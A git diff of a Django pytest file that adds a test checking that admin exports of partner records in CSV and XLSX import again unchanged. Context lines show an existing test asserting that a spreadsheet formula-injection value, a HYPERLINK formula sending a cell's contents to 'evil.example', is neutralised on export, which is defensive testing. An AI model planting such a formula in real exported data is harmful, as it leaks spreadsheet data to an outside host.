@@ -1,3 +1,5 @@
+import datetime
+
 import pytest
 import tablib
 from django.urls import reverse
@@ -174,3 +176,26 @@ def test_the_admin_export_writes_formula_like_text_as_text(staff_client, localit
     assert record["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")"""
     assert record["address"] == "'@SUM(1)"
     assert record["locality"] == "kajaani"
+
+
+@pytest.mark.parametrize(("file_format", "index"), [("csv", "0"), ("xlsx", "1")])
+def test_an_admin_export_imports_again_unchanged(staff_client, locality, file_format, index):
+    """The bounded reader gives django-import-export what its own readers gave: dates, numbers and the
+    neutralised text of an exported file come back as they were."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    PartnerFactory(locality=locality, name="=Teatteri", joined_on=datetime.date(2024, 3, 1), listed_publicly=True)
+    fields = PartnerResource().get_export_order()
+    exported = staff_client.post(
+        reverse("admin:networks_partner_export"),
+        {"format": index, "resource": "0"} | {f"partnerresource_{name}": "on" for name in fields},
+    ).content
+    response = staff_client.post(
+        reverse("admin:networks_partner_import"),
+        {"resource": "0", "format": index, "import_file": SimpleUploadedFile(f"p.{file_format}", exported)},
+    )
+    assert response.status_code == 200
+    assert not response.context["form"].errors
+    result = response.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.rows] == ["skip"]
